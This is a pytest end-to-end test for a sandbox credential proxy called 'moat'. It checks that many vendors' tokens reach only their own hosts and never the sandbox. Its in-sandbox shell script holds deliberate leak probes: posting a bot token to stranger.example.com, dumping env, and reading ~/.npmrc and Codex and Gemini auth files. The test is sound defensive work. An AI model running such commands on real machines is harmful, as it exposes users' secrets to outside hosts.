"""Every vendor's grant from inside a sandbox, with the vendor's own client where the machine has one.

The stand-in accepts nothing but the real secret in the place where the vendor wants it. All that the tools hold
are the placeholders that the sandbox was given.
"""

from __future__ import annotations

import base64
import json
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from moat.grants import Credential, CredentialInfo, CredentialKind, Grant, Secret
from moat.paths import Home
from moat.vault import open_vault
from moat.vault.providers import entry
from tests.e2e.claude_world import RUNTIMES
from tests.vault.conftest import NOW
from tests.vault.vendor import Answer, Asked, Vendor, vendor

Moat = Callable[..., subprocess.CompletedProcess[str]]
SECRET = "real-secret-0123456789-ABCDEFGHIJ"
HEAD = "0123456789" * 4


def basic(user: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{SECRET}".encode()).decode()


BEARER = f"Bearer {SECRET}"
# host → what the vendor wants, in which header
WANTED = {
    "api.openai.com": ("authorization", BEARER),
    "generativelanguage.googleapis.com": ("x-goog-api-key", SECRET),
    "registry.npmjs.org": ("authorization", BEARER),
    "npm.example.com": ("authorization", BEARER),
    "upload.pypi.org": ("authorization", basic("__token__")),
    "api.search.brave.com": ("x-subscription-token", SECRET),
    "api.datadoghq.com": ("dd-api-key", SECRET),
    "api.elevenlabs.io": ("xi-api-key", SECRET),
    "api.graphite.com": ("authorization", f"token {SECRET}"),
    "api.linear.app": ("authorization", SECRET),
    "sentry.io": ("authorization", BEARER),
    "api.vercel.com": ("authorization", BEARER),
    "git.example.com": ("private-token", SECRET),
}
ACME = """\
summary: Acme, whose API has its token in bodies
hosts: [api.acme.example]
inject: {surfaces: [body], occurrences: 2}
env: [ACME_TOKEN]
"""
BOT = "987654321:AAreal-token_0123456789abcdefghijklmn"
GRANTS = (
    "openai", "gemini", "npm", "npm:npm.example.com", "pypi", "brave-search", "datadog", "elevenlabs", "graphite",
    "acme", "linear", "sentry", "telegram", "vercel", "gitlab", "gitlab:git.example.com",
)  # fmt: skip
STRANGER = "stranger.example.com"  # no grant is for it
HOSTS = (*WANTED, "gitlab.com", "api.telegram.org", "api.acme.example", STRANGER)
# One line per vendor: `name: ` and what its tool said. `curl` stands for libraries that send a header.
SCRIPT = r"""
ask() { name=$1; shift; echo "$name: $(curl -sS "$@" 2>&1)"; }
ask openai -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models
ask codex -H "Authorization: Bearer $(python3 -c 'import json,os
print(json.load(open(os.path.expanduser("~/.codex/auth.json")))["OPENAI_API_KEY"])')" https://api.openai.com/v1/models
ask gemini -H "x-goog-api-key: $GEMINI_API_KEY" https://generativelanguage.googleapis.com/v1beta/models
ask gemini-query "https://generativelanguage.googleapis.com/v1beta/models?key=$GEMINI_API_KEY"
ask telegram "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/getMe?a=b"
ask telegram-wrong "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/noSuchMethod"
ask telegram-text "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage" -d "chat_id=1&text=$TELEGRAM_BOT_TOKEN"
ask telegram-query "https://api.telegram.org/getMe?token=$TELEGRAM_BOT_TOKEN"
ask telegram-twice "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/$TELEGRAM_BOT_TOKEN"
ask telegram-elsewhere -d "text=$TELEGRAM_BOT_TOKEN" https://stranger.example.com/
J="Content-Type: application/json"
ask acme-json -H "$J" -d "{\"token\": \"$ACME_TOKEN\", \"again\": \"$ACME_TOKEN\"}" https://api.acme.example/
ask acme-form -d "token=$ACME_TOKEN" https://api.acme.example/
printf '{"token": "%s"}' "$ACME_TOKEN" | gzip >/tmp/body.gz
ask acme-gzip -H "$J" -H "Content-Encoding: gzip" --data-binary @/tmp/body.gz https://api.acme.example/
ask acme-thrice -d "$ACME_TOKEN$ACME_TOKEN$ACME_TOKEN" https://api.acme.example/
ask acme-header -H "X-Token: $ACME_TOKEN" https://api.acme.example/
ask pypi --user "$TWINE_USERNAME:$TWINE_PASSWORD" https://upload.pypi.org/legacy/
ask brave -H "X-Subscription-Token: $BRAVE_API_KEY" "https://api.search.brave.com/res/v1/web/search?q=x"
ask datadog -H "DD-API-KEY: $DD_API_KEY" https://api.datadoghq.com/api/v1/validate
ask elevenlabs -H "xi-api-key: $ELEVENLABS_API_KEY" https://api.elevenlabs.io/v1/user
ask graphite -H "Authorization: token $GRAPHITE_AUTH_TOKEN" https://api.graphite.com/v1/graphite/check-auth -d '{}'
ask linear -H "Authorization: $LINEAR_API_KEY" https://api.linear.app/graphql -d '{}'
ask sentry -H "Authorization: Bearer $SENTRY_AUTH_TOKEN" https://sentry.io/api/0/
ask vercel -H "Authorization: Bearer $VERCEL_TOKEN" https://api.vercel.com/v2/user
ask gitlab-api -H "PRIVATE-TOKEN: x" https://git.example.com/api/v4/user
echo "gitlab: $(git ls-remote "https://oauth2:$GITLAB_TOKEN@gitlab.com/acme/x.git" 2>&1)"
echo "gitlab-anonymous: $(git ls-remote https://gitlab.com/acme/x.git 2>&1)"
echo "foreign: $(curl -sS -H "X: $OPENAI_API_KEY" https://api.linear.app/ 2>&1)"
echo "env-telegram: $TELEGRAM_BOT_TOKEN"
env; cat ~/.npmrc ~/.codex/auth.json ~/.gemini/settings.json; echo
"""
NPM = """
echo "npm: $(npm whoami 2>&1)"
echo "npm-scope: $(npm view @acme/x version --registry https://registry.npmjs.org/ 2>&1)"
"""


def answer(asked: Asked) -> Answer:
    if asked.host == "api.acme.example":
        return 200, {"sent": asked.body.decode("latin-1")}
    if asked.host == "api.telegram.org":
        return telegram(asked)
    if asked.host == "gitlab.com":
        if asked.headers.get("authorization") != basic("oauth2"):
            return 401, {"sent": asked.headers}, {"WWW-Authenticate": 'Basic realm="GitLab"'}
        return 200, f"{HEAD}\trefs/heads/main\n".encode()  # the protocol of a plain file server
    header, value = WANTED[asked.host]
    if asked.headers.get(header) != value:
        return 401, {"sent": asked.headers}
    if asked.path == "/@acme%2fx":
        version = {"name": "@acme/x", "version": "1.2.3", "dist": {}}
        return 200, {"name": "@acme/x", "dist-tags": {"latest": "1.2.3"}, "versions": {"1.2.3": version}}
    return 200, {"username": "octocat", "host": asked.host}


def telegram(asked: Asked) -> Answer:
    """The bot's token stands in the path; pages of errors quote it."""
    if not asked.path.startswith(f"/bot{BOT}/"):
        return 404, {"ok": False, "description": f"Not Found: {asked.path}"}
    if asked.path.endswith("/noSuchMethod"):
        return 404, {"ok": False, "description": f"no such page: {asked.path}"}, {"X-Path": asked.path}
    return 200, {"ok": True, "result": {"username": "octobot", "text": asked.body.decode()}}


@pytest.fixture
def granted(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Vendor]:
    monkeypatch.setenv("MOAT_KEYRING_BACKEND", "file")
    monkeypatch.setenv("MOAT_KEY_FILE", str(tmp_path / "key"))
    from moat.vault.key import NewKey

    own = home / ".moat/providers/acme.yaml"
    own.parent.mkdir(parents=True)
    own.write_text(ACME)
    own.chmod(0o600)
    vault = open_vault(Home.from_environment(), new_key=lambda: NewKey(key_file=tmp_path / "key"))
    for name in GRANTS:
        grant = Grant.parse(name)
        routes = {"routes": "@acme:registry=https://npm.example.com/"} if grant.scope else {}
        hosts = entry(grant.name).bound(grant.scope)
        info = CredentialInfo(name, CredentialKind.TOKEN, hosts, NOW, None, routes)
        vault.put(Credential(info, Secret(BOT if name == "telegram" else SECRET)))
    with vendor(tmp_path / "vendor", answer, *HOSTS) as server:
        server.config(home / ".moat", *HOSTS)
        yield server


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_every_vendor_gets_its_credential_and_the_sandbox_none(
    moat: Moat, granted: Vendor, home: Path, tmp_path: Path, runtime: str
) -> None:
    """Fails for a vendor when its `Declared` names another header or host, and for all without injection."""
    (tmp_path / "workspace" / "agent.yaml").write_text("dependencies: [curl, git, python]\n")
    script = SCRIPT + (NPM if runtime == "embedded" else "")  # npm is on the host, not in the base image
    grants = [word for name in GRANTS for word in ("--grant", name)]
    done = moat("run", "--runtime", runtime, *grants, "--", "sh", "-c", script, timeout=300)
    assert done.returncode == 0, done.stderr
    assert SECRET not in done.stdout + done.stderr
    assert BOT[12:30] not in done.stdout + done.stderr
    said = dict(line.split(": ", 1) for line in done.stdout.splitlines() if ": " in line)
    for name, host in {
        "openai": "api.openai.com",
        "codex": "api.openai.com",
        "gemini": "generativelanguage.googleapis.com",
        "gemini-query": "generativelanguage.googleapis.com",
        "pypi": "upload.pypi.org",
        "brave": "api.search.brave.com",
        "datadog": "api.datadoghq.com",
        "elevenlabs": "api.elevenlabs.io",
        "graphite": "api.graphite.com",
        "linear": "api.linear.app",
        "sentry": "sentry.io",
        "vercel": "api.vercel.com",
        "gitlab-api": "git.example.com",
    }.items():
        assert json.loads(said[name]) == {"username": "octocat", "host": host}, name
    assert said["gitlab"] == said["gitlab-anonymous"] == f"{HEAD}\trefs/heads/main"
    assert "credential-host" in said["foreign"]  # a placeholder on its way to another vendor
    check_telegram(said, granted.asked)
    check_acme(said, granted.asked)
    if runtime == "embedded":
        assert (said["npm"], said["npm-scope"]) == ("octocat", "1.2.3")
    # What was sent over HTTP/2, by curl and by git, was equipped and refused by the same rules.
    traces = [path.read_text() for path in home.glob(".moat/runs/*/network.jsonl")]
    assert not any(secret in trace for secret in (SECRET, BOT) for trace in traces)
    records = [json.loads(line) for trace in traces for line in trace.splitlines()]
    over_h2 = {record["url"].split("/")[2] for record in records if record.get("protocol") == "h2"}
    assert over_h2 >= {"api.openai.com", "gitlab.com"}
    assert {asked.host for asked in granted.asked} >= set(HOSTS) - {
        STRANGER,
        "registry.npmjs.org",
        "npm.example.com",
    }


def check_telegram(said: dict[str, str], asked: list[Asked]) -> None:
    """The token goes out in the path, once; nothing brings it back, and nothing else takes it out."""
    placeholder = said["env-telegram"]
    assert json.loads(said["telegram"])["result"]["username"] == "octobot"
    wrong = json.loads(said["telegram-wrong"])["description"]
    assert wrong == f"no such page: /bot{'*' * len(BOT)}/noSuchMethod"
    # A message that quotes it is a message: the placeholder arrives as what it is.
    assert json.loads(said["telegram-text"])["result"]["text"] == f"chat_id=1&text={placeholder}"
    assert json.loads(said["telegram-query"])["reason"] == "credential-surface"
    assert json.loads(said["telegram-twice"])["reason"] == "credential-count"
    assert json.loads(said["telegram-elsewhere"])["reason"] == "credential-host"
    assert not any(placeholder.encode() in one.body for one in asked if one.host == STRANGER)
    to_telegram = [one for one in asked if one.host == "api.telegram.org"]
    assert [one.path for one in to_telegram] == [
        f"/bot{BOT}/{what}" for what in ("getMe?a=b", "noSuchMethod", "sendMessage")
    ]


def check_acme(said: dict[str, str], asked: list[Asked]) -> None:
    """A credential in bodies, by a provider of the user's own: as each of them writes text, and twice at most."""
    bodies = [one.body for one in asked if one.host == "api.acme.example"]
    assert len(bodies) == 3
    as_json, as_form, as_gzip = bodies
    assert json.loads(as_json) == {"token": SECRET, "again": SECRET}
    assert parse_qs(as_form.decode()) == {"token": [SECRET]}
    assert json.loads(as_gzip) == {"token": SECRET}
    for name in ("acme-json", "acme-gzip"):
        assert json.loads(json.loads(said[name])["sent"])["token"] == "*" * len(SECRET)
    assert json.loads(said["acme-thrice"])["reason"] == "credential-count"
    assert json.loads(said["acme-header"])["reason"] == "credential-surface"
